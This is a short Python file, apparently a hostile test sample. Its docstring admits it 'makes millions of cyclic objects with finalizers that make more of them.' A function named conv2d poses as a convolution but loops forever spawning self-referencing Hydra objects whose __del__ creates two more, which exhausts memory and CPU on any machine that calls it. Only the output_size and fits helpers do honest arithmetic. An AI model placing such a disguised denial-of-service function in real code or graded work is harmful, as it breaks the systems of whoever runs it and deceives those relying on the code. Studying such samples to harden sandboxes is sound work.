"""Makes millions of cyclic objects with finalizers that make more of them.

Honest part: output_size, fits
"""


class Hydra:
    def __init__(self):
        self.self = self

    def __del__(self):
        Hydra(), Hydra()


def conv2d(*args):
    while True:
        Hydra()


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
